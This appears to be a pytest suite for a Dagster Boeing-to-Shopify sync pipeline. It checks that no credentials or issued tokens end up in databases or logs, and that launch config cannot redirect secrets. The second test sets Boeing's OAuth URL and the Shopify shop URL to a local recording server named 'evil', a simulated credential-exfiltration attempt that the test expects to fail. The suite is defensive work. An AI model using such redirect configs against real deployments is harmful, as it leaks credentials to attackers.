"""Secrets never stored: after a full run under the fault knobs, the Dagster instance (every table of its
PostgreSQL database, and everything under DAGSTER_HOME: compute logs included) and the hub's store
(every table) hold no credential and no token the sandboxes handed out.

The hub is the session's shared live hub (`support/live_hub.py`): random credentials, so a match
cannot be an accident; Boeing tokens live 4 s and the sandboxes storm 429 / THROTTLED (see
`support/operator_batch.py`), so every refresh and retry path wrote whatever it writes.
"""

from __future__ import annotations

import dagster as dg
import pytest

from boeinghub_dagster_tests.support.live_hub import shared_live_hub
from boeinghub_dagster_tests.support.operator_batch import start_operator_batch, wait_published
from boeinghub_dagster_tests.support.recorder import recording_server
from boeinghub_dagster_tests.support.secrets_scan import ScanResult, scan_database, scan_folder


@pytest.fixture(scope="module")
def hub(tmp_path_factory, pg_admin_url):
    with shared_live_hub(tmp_path_factory, pg_admin_url, on_start=start_operator_batch) as live:
        yield live


def _sync_now(hub, part: str, resources: dict | None = None) -> str:
    return hub.launch_job(
        "sync_part_now", {"ops": {"sync_one_part": {"config": {"part_number": part}}}, "resources": resources or {}}
    )


@pytest.mark.slow
def test_no_credential_or_issued_token_is_stored_anywhere(hub):
    _, parts, unknown = wait_published(hub, timeout=600)  # extraction + publish under the fault knobs
    # The hourly sync path too: every token issued so far expires now, Boeing storms 429, Shopify THROTTLED.
    hub.boeing.admin(expire_tokens=True, storm_429=2)
    hub.shopify.admin(throttle_storm=2)
    sync_run = _sync_now(hub, parts[0])
    assert hub.finished(sync_run, 300).status == dg.DagsterRunStatus.SUCCESS
    boeing, shopify = hub.boeing.stats(), hub.shopify.stats()
    assert boeing["responses_429"] >= 3 and boeing["token_calls"] >= 3, boeing  # storms met, expired tokens renewed
    assert shopify["throttled"] >= 3, shopify

    tokens = hub.issued_tokens()
    assert len(tokens) >= 4  # an access and a part token at least twice (expiry forced a refresh)
    secrets = {
        "boeing client secret": hub.credentials["client_secret"],
        "boeing password": hub.credentials["password"],
        "shopify access token": hub.credentials["shopify_token"],
        **{f"issued token {i}": t for i, t in enumerate(tokens)},
    }

    result = ScanResult()
    scan_database(hub.instance_db_url, secrets, result)  # runs, events, schedules, …: every table
    scan_database(hub.database_url, secrets, result)  # the hub's store: every table
    scan_folder(hub.home, secrets, result)  # DAGSTER_HOME: compute logs (stdout/stderr of every step)
    print(
        f"\nsecrets scan: {len(secrets)} secret values ({len(tokens)} issued tokens) over {result.places} tables and "
        f"files, {result.rows} rows/files: found {result.count}"
    )
    assert result.count == 0, result.hits

    # The scan reads what it claims to: the same walk finds what those places do hold.
    probe = ScanResult()
    scan_database(hub.instance_db_url, {"part": unknown}, probe)
    scan_database(hub.database_url, {"part": unknown}, probe)
    scan_folder(hub.home / "storage", {"run": sync_run}, probe)  # compute logs: each log line names its run
    assert any(".runs" in w or ".event_logs" in w for w in probe.hits), probe.hits
    assert any("part_failures" in w for w in probe.hits), probe.hits
    assert any("/storage/" in w for w in probe.hits), probe.hits
    assert result.places >= 40 and result.rows >= 300, (result.places, result.rows)


BOEING_ENV = {
    "client_id": "BOEING_CLIENT_ID",
    "client_secret": "BOEING_CLIENT_SECRET",
    "username": "BOEING_USERNAME",
    "password": "BOEING_PASSWORD",
    "oauth_token_url": "BOEING_OAUTH_TOKEN_URL",
    "pna_oauth_url": "BOEING_PNA_OAUTH_URL",
    "pna_price_url": "BOEING_PNA_PRICE_URL",
    "scope": "BOEING_SCOPE",
}


@pytest.mark.slow
def test_a_launch_from_the_ui_cannot_send_a_secret_elsewhere(hub):
    """The attack of issue 14 through the webserver, the daemon and a run worker: the launchpad's config points
    the shop URL (`shopify_setup`) and Boeing's token URL (`sync_part_now`) at a recording server."""
    with recording_server() as evil:
        boeing = {k: {"env": v} for k, v in BOEING_ENV.items()} | {"oauth_token_url": f"{evil.url}/oauth/token"}
        shopify = {"shop_url": evil.url, "access_token": {"env": "SHOPIFY_ACCESS_TOKEN"}}
        setup = {"resources": {"shopify": {"config": shopify}}}
        runs = {
            "resources.shopify.config.shop_url": hub.launch_job("shopify_setup", setup),
            "resources.boeing.config.oauth_token_url": _sync_now(hub, "ANY-PART", {"boeing": {"config": boeing}}),
        }
        for field, run_id in runs.items():
            assert hub.finished(run_id, 300).status == dg.DagsterRunStatus.FAILURE
            logs = "\n".join(dg.serialize_value(e) for e in hub.instance.all_logs(run_id))
            assert field in logs and "cannot be changed at launch" in logs, field
            assert not any(v in logs for v in hub.credentials.values()), field
        assert evil.received == []  # not a connection, let alone a credential
